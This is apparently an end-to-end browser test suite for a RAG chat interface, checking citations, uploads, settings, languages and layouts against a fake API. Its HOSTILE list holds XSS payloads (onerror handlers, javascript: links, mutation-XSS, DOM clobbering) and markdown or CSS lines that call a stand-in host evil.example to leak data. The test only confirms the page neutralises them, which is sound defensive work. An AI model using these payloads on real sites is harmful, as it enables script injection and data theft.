// The page alone, against an API that says what a test wants: hostile answers, faults, keys, layouts.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { after, before, beforeEach, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { openPage, startBrowser, wider } from './browser.mjs';
import { defaults, startFake } from './fake_api.mjs';
import { startGateway } from './gateway.mjs';

const DIST = process.env.PAI_RAG_TEST_PAGE ?? fileURLToPath(new URL('../../ui/dist', import.meta.url));
const SHOTS = process.env.PAI_RAG_TEST_SCREENSHOTS; // a folder: screenshots are kept there
const PHONE = { viewport: { width: 360, height: 740 } };

let browser;
let fake;

before(async () => {
    browser = await startBrowser();
    fake = await startFake(DIST);
});
after(async () => {
    await browser?.close();
    await fake?.close();
});
beforeEach(() => Object.assign(fake.state, defaults()));

async function withPage(options, work) {
    const opened = await openPage(browser, options.url ?? fake.url, options);
    try {
        await work(opened.page, opened);
        assert.deepEqual(opened.foreign, [], 'requests to other hosts');
        if (!options.faultsExpected) assert.deepEqual(opened.faults, [], 'faults on the page');
    } finally {
        await opened.context.close();
    }
}

async function ask(page, question) {
    await page.getByRole('textbox', { name: /Question|问题/ }).fill(question);
    await page.keyboard.press('Enter');
}
const section = (page, name) => page.locator('.nav').getByRole('link', { name });
const saved = (page) => page.locator('.save-bar').waitFor({ state: 'detached' });
const finished = (page) => page.locator('.turn[aria-busy=false] .turn-foot, .turn[aria-busy=false] .fault').last().waitFor();

test('an answer streams, its citations open the passage and mark the sentence', () =>
    withPage({}, async (page) => {
        await ask(page, 'How fast is the pump and when is it serviced?');
        await finished(page);
        assert.match(await page.locator('.markdown').innerText(), /moves 40 litres per minute/);
        assert.equal(await page.locator('.markdown table').count(), 1);
        assert.equal(await page.locator('.source').count(), 3);
        await page.locator('.markdown .cite').first().click();
        const panel = page.locator('.passage');
        assert.match(await panel.locator('header').innerText(), /pump-manual\.pdf[^]*p\. 4[^]*0\.87/);
        assert.equal(await panel.locator('mark').innerText(), 'The pump moves 40 litres per minute at 2 bar.');
        await page.keyboard.press('Escape');
        assert.equal(await panel.count(), 0);
        const asked = fake.state.questions[0];
        assert.deepEqual([asked.path, asked.stream, asked.citation, asked.index_name], ['/api/v1/query', true, true, 'default_index']);
    }));

test('a citation that its source does not support is marked as such', () =>
    withPage({}, async (page) => {
        await ask(page, 'x');
        await finished(page);
        const chips = page.locator('.markdown .cite');
        assert.deepEqual(await chips.evaluateAll((all) => all.map((chip) => chip.classList.contains('doubtful'))), [false, false, true]);
        await chips.nth(2).click();
        await page.locator('.passage .doubt').waitFor();
    }));

test('markers of sources that do not exist are no links', async () => {
    fake.state.answer.pieces = ['So it is [7], and [1, 2], but not in `code [1]`.'];
    fake.state.answer.last.citations = [
        { number: 7, valid: false, support: 0 }, { number: 1, valid: true, support: 1 }, { number: 2, valid: true, support: 1 },
    ];
    await withPage({}, async (page) => {
        await ask(page, 'x');
        await finished(page);
        const chips = page.locator('.markdown .cite');
        assert.deepEqual(await chips.allInnerTexts(), ['7', '1', '2']);
        assert.ok(await chips.nth(0).isDisabled());
        assert.ok(await chips.nth(1).isEnabled());
    });
});

// Every payload is sent whole and cut into single characters: half a tag must be as harmless as a whole one.
const HOSTILE = [
    '<img src=x onerror="window.hit=1">',
    '<img src="http://evil.example/p.png">',
    '![pixel](http://evil.example/pixel.png?q=secret)',
    '[![pixel](//evil.example/a.png)](javascript:window.hit=1)',
    '<a href="javascript:window.hit=1">click</a> [x](javascript:window.hit=1) [y](data:text/html,<script>window.hit=1</script>)',
    '<script>window.hit=1</script><svg onload="window.hit=1"><iframe src="http://evil.example/"></iframe>',
    '<style>@import url(http://evil.example/x.css);body{background:url(http://evil.example/b.png)}</style>',
    '<p style="background:url(http://evil.example/c.png)">styled</p><link rel=stylesheet href=http://evil.example/d.css>',
    '<form action="http://evil.example/"><input name=q><button>go</button></form><base href="http://evil.example/">',
    '<video src="http://evil.example/v.mp4" autoplay poster="http://evil.example/p.png"></video><object data="http://evil.example/">',
    '<img srcset="http://evil.example/s.png 2x" src="data:image/png;base64,iVBORw0KGgo=">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
    '<div id="app" class="modal" name="documentURI">clobber</div><button class="cite" data-number="1">1</button>',
];

for (const cut of ['whole', 'in single characters'])
    test(`hostile answers do nothing and fetch nothing, ${cut}`, async () => {
        const text = HOSTILE.join('\n\n') + '\n\nThe end.';
        fake.state.answer.pieces = cut === 'whole' ? [text] : [...text];
        fake.state.pause = 1;
        fake.state.answer.last.docs[0].text = HOSTILE.join(' ');
        fake.state.answer.last.docs[0].metadata.file_name = '<img src=http://evil.example/n.png onerror=window.hit=1>';
        fake.state.answer.last.docs[0].image_url = 'http://evil.example/doc.png';
        await withPage({ faultsExpected: true }, async (page, { faults }) => {
            await ask(page, '<img src=http://evil.example/q.png onerror=window.hit=1>');
            await finished(page);
            await page.locator('.source').first().click();
            await page.waitForTimeout(300);
            assert.equal(await page.evaluate(() => window.hit), undefined);
            assert.match(await page.locator('.markdown').innerText(), /The end\./);
            const box = page.locator('.markdown');
            assert.equal(await box.locator('script, style, iframe, form, input, link, base, object, video, svg, math, [style], [onerror]').count(), 0);
            assert.equal(await box.locator('button').count(), 0);
            const links = await box.locator('a').evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.rel]));
            for (const [href, rel] of links) {
                if (href !== null) assert.match(href, /^(https?:|mailto:)/);
                if (href !== null) assert.match(rel, /noopener/);
            }
            const shown = box.locator('a.foreign-image').first();
            assert.match(await shown.getAttribute('title'), /evil\.example/);
            // A blocked request would be a fault of the content policy: the page must not even try.
            assert.equal(faults.find((fault) => /Content Security Policy|Refused/.test(fault)), undefined);
        });
    });

test('an extractive answer says so, in both languages, and leads to the settings', async () => {
    fake.state.answer.last.extractive = true;
    for (const [locale, words] of [['en-US', /no language model is configured/], ['zh-CN', /尚未配置大语言模型/]])
        await withPage({ locale }, async (page) => {
            await ask(page, 'x');
            await finished(page);
            assert.match(await page.locator('.hint').first().innerText(), words);
            await page.locator('.hint a').first().click();
            await page.locator('.settings-view .fields').first().waitFor();
        });
});

test('stop ends the stream and keeps what came; a broken connection says so', async () => {
    fake.state.pause = 400;
    await withPage({ faultsExpected: true }, async (page) => {
        await ask(page, 'x');
        await page.locator('.markdown').waitFor();
        await page.getByRole('button', { name: 'Stop' }).click();
        await page.getByText('Stopped.').waitFor();
        assert.match(await page.locator('.markdown').innerText(), /The pump/);
        fake.state.pause = 5;
        fake.state.breakAfter = 2;
        await ask(page, 'y');
        await page.locator('.turn .fault').waitFor();
        assert.match(await page.locator('.turn .fault').innerText(), /connection broke/);
    });
});

test('modes: model only, passages only; a new conversation forgets the session; a reload does not', () =>
    withPage({}, async (page) => {
        await ask(page, 'one');
        await finished(page);
        await page.getByRole('combobox', { name: 'Mode' }).selectOption('llm');
        await ask(page, 'two');
        await page.locator('.turn').nth(1).locator('.turn-foot').waitFor();
        await page.reload();
        assert.equal(await page.locator('.turn').count(), 2);
        await page.getByRole('button', { name: 'New chat' }).click();
        assert.equal(await page.locator('.turn').count(), 0);
        await page.getByRole('combobox', { name: 'Mode' }).selectOption('retrieval');
        await ask(page, 'three');
        await page.locator('.passages li').nth(2).waitFor();
        const sent = fake.state.questions;
        assert.deepEqual(sent.map((one) => one.path), ['/api/v1/query', '/api/v1/query/llm', '/api/v1/query/retrieval']);
        assert.equal(sent[0].session_id, null);
        assert.equal(sent[1].session_id, fake.state.answer.last.session_id);
    }));

test('uploads show progress per file and end in the list; a bad file names its reason', () =>
    withPage({}, async (page) => {
        await section(page, 'Documents').click();
        await page.getByText('No documents yet').waitFor();
        await page.locator('input[type=file]').setInputFiles([
            { name: '年度总结.pdf', mimeType: 'application/pdf', buffer: Buffer.alloc(20000) },
            { name: 'setup.exe', mimeType: 'application/octet-stream', buffer: Buffer.alloc(10) },
        ]);
        await page.locator('.upload', { hasText: '年度总结.pdf' }).getByText(/Reading|Splitting|Embedding|Storing/).waitFor();
        await page.locator('.upload.done', { hasText: '年度总结.pdf' }).getByText('Done · 12 pages · 80 passages').waitFor();
        assert.match(await page.locator('.upload.failed').innerText(), /setup\.exe[^]*Files of type \.exe are not supported/);
        const row = page.locator('.documents tbody tr');
        assert.match(await row.innerText(), /年度总结\.pdf/);
        await page.getByRole('searchbox').fill('nothing like it');
        await page.getByText('No document has').waitFor();
        await page.getByRole('searchbox').fill('年度');
        await row.waitFor();
        await page.getByRole('button', { name: 'Delete 年度总结.pdf' }).click();
        await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
        assert.equal(fake.state.documents.length, 1);
        await page.getByRole('button', { name: 'Delete 年度总结.pdf' }).click();
        await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
        await row.waitFor({ state: 'detached' });
        assert.equal(fake.state.documents.length, 0);
    }));

test('files dropped on the section are taken', () =>
    withPage({}, async (page) => {
        await section(page, 'Documents').click();
        const transfer = await page.evaluateHandle(() => {
            const data = new DataTransfer();
            data.items.add(new File(['hello'], 'dropped.txt', { type: 'text/plain' }));
            return data;
        });
        await page.dispatchEvent('.documents-view', 'drop', { dataTransfer: transfer });
        await page.locator('.upload.done', { hasText: 'dropped.txt' }).waitFor();
    }));

test('settings send only what changed, never the mask, and show the service\'s objection', () =>
    withPage({ faultsExpected: true }, async (page) => {
        await section(page, 'Settings').click();
        await page.getByLabel('Model', { exact: true }).fill('qwen-plus');
        await page.getByLabel('Passages per question').fill('5');
        await page.getByRole('button', { name: 'Save' }).click();
        await saved(page);
        await page.getByLabel('Passage length (tokens)').fill('7');
        await page.getByRole('button', { name: 'Save' }).click();
        await page.getByText('must be between 16 and 8192, not 7').waitFor();
        await page.getByRole('button', { name: 'Discard' }).click();
        await page.getByLabel('API key').fill('sk-new');
        await page.getByRole('button', { name: 'Save' }).click();
        await saved(page);
        assert.deepEqual(fake.state.patches, [
            { llm: { model: 'qwen-plus' }, retriever: { similarity_top_k: 5 } },
            { node_parser: { chunk_size: 7 } },
            { llm: { api_key: 'sk-new' } },
        ]);
    }));

test('another provider does not inherit the model and the address of the old one', () =>
    withPage({}, async (page) => {
        await section(page, 'Settings').click();
        await page.getByLabel('Provider').selectOption('openai');
        assert.equal(await page.getByLabel('Model', { exact: true }).inputValue(), '');
        await page.getByRole('button', { name: 'Save' }).click();
        await saved(page);
        assert.deepEqual(fake.state.patches, [{ llm: { source: 'openai' } }]);
    }));

test('a service with an API key asks for it once, and again when it is wrong', async () => {
    fake.state.key = 'sesame';
    await withPage({ faultsExpected: true }, async (page) => {
        const dialog = page.getByRole('dialog');
        await dialog.getByLabel('API key').fill('wrong');
        await dialog.getByRole('button', { name: 'Continue' }).click();
        await dialog.getByText('not accepted').waitFor();
        await dialog.getByLabel('API key').fill('sesame');
        await dialog.getByRole('button', { name: 'Continue' }).click();
        await dialog.waitFor({ state: 'detached' });
        await ask(page, 'x');
        await finished(page);
        assert.match(await page.locator('.markdown').innerText(), /litres/);
        await page.reload();
        await page.locator('.badge.ready').waitFor();
        assert.equal(await dialog.count(), 0);
    });
});

test('knowledge bases are created, chosen and deleted', () =>
    withPage({}, async (page) => {
        await page.getByRole('button', { name: 'New knowledge base' }).click();
        const dialog = page.getByRole('dialog');
        await dialog.getByLabel('Name').fill('a b');
        await dialog.getByRole('button', { name: 'Create' }).click();
        assert.equal(fake.state.indexes.length, 2); // the pattern holds it back
        await dialog.getByLabel('Name').fill('manuals');
        await dialog.getByRole('button', { name: 'Create' }).click();
        await dialog.waitFor({ state: 'detached' });
        const select = page.getByRole('combobox', { name: 'Knowledge base' });
        await page.waitForFunction(() => document.querySelector('.index-selector select').value === 'manuals');
        assert.equal(await select.inputValue(), 'manuals');
        await ask(page, 'x');
        await finished(page);
        assert.equal(fake.state.questions[0].index_name, 'manuals');
        await page.getByRole('button', { name: 'Delete this knowledge base' }).click();
        await dialog.getByRole('button', { name: 'Delete' }).click();
        await dialog.waitFor({ state: 'detached' });
        await page.waitForFunction(() => document.querySelector('.index-selector select').value === 'default_index');
        assert.deepEqual(fake.state.indexes, ['default_index', 'research']);
    }));

test('everything works behind a path prefix', async () => {
    const gateway = await startGateway(fake.url, '/api/predict/svc');
    try {
        await withPage({ url: gateway.url }, async (page) => {
            await page.locator('.badge.ready').waitFor();
            await ask(page, 'x');
            await finished(page);
            await section(page, 'Documents').click();
            await page.locator('input[type=file]').setInputFiles({ name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from('hello') });
            await page.locator('.upload.done').waitFor();
            assert.equal(await page.getByRole('link', { name: 'API', exact: true }).getAttribute('href'), `${gateway.url}docs`);
        });
    } finally {
        await gateway.close();
    }
});

test('the badge follows the service', async () => {
    fake.state.ready = false;
    await withPage({}, async (page) => {
        await page.locator('.badge.starting').waitFor();
        fake.state.ready = true;
        await page.locator('.badge.ready').waitFor();
    });
});

test('language and theme are switched and remembered', () =>
    withPage({}, async (page) => {
        await page.getByRole('button', { name: 'Switch to Chinese' }).click();
        await section(page, '文档').waitFor();
        assert.equal(await page.evaluate(() => document.documentElement.lang), 'zh-CN');
        const background = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
        const light = await background();
        await page.getByRole('button', { name: /主题/ }).click();
        await page.getByRole('button', { name: /主题/ }).click();
        assert.notEqual(await background(), light);
        await page.reload();
        await section(page, '文档').waitFor();
        assert.notEqual(await background(), light);
    }));

test('keyboard alone: send, open a citation, close it, come back to it', () =>
    withPage({}, async (page) => {
        await page.getByRole('textbox', { name: 'Question' }).focus();
        await page.keyboard.type('first');
        await page.keyboard.press('Shift+Enter');
        await page.keyboard.type('second');
        await page.keyboard.press('Enter');
        await finished(page);
        assert.equal(fake.state.questions[0].question, 'first\nsecond');
        await page.locator('.markdown .cite').first().focus();
        await page.keyboard.press('Enter');
        await page.locator('.passage').waitFor();
        await page.waitForFunction(() => document.activeElement.getAttribute('aria-label') === 'Close');
        await page.keyboard.press('Escape');
        await page.waitForFunction(() => document.activeElement.className === 'cite');
    }));

for (const [name, options] of [
    ['1440 light', {}],
    ['1440 dark', { colorScheme: 'dark', locale: 'zh-CN' }],
    ['360 light', { ...PHONE, locale: 'zh-CN' }],
    ['360 dark', { ...PHONE, colorScheme: 'dark' }],
])
    test(`nothing sticks out at ${name}`, async () => {
        fake.state.documents = [1, 2, 3].map((i) => ({
            id: `${i}`, index_name: 'default_index', name: `${'a-very-long-name-'.repeat(i * 3)}.pdf`, file_type: 'pdf',
            size: 10 ** (3 * i), pages: i, chunks: i * 40, tokens: 1, sha256: '', created_at: '2025-06-03T09:12:00Z',
        }));
        fake.state.answer.pieces.push(`\n\n\`\`\`\n${'code '.repeat(60)}\n\`\`\`\n\n${'x'.repeat(300)}\n\n|${'a|'.repeat(30)}\n|${'-|'.repeat(30)}`);
        await withPage(options, async (page) => {
            const shot = async (what) => {
                assert.deepEqual(await wider(page), [], what);
                if (!SHOTS) return;
                mkdirSync(SHOTS, { recursive: true });
                await page.screenshot({ path: path.join(SHOTS, `${name.replace(' ', '-')}-${what}.png`) });
            };
            await page.locator('.badge.ready').waitFor();
            await page.locator('.welcome').waitFor();
            await shot('welcome');
            await ask(page, 'How fast is the pump, and when is it serviced?');
            await finished(page);
            await shot('answer');
            await page.locator('.markdown .cite').first().click();
            await shot('passage');
            await page.keyboard.press('Escape');
            await page.locator('.passage').waitFor({ state: 'detached' });
            await page.locator('.nav a').nth(1).click();
            await page.locator('.documents tbody tr').nth(2).waitFor();
            await shot('documents');
            await page.locator('.nav a').nth(2).click();
            await page.locator('.fields').first().waitFor();
            await shot('settings');
        });
    });
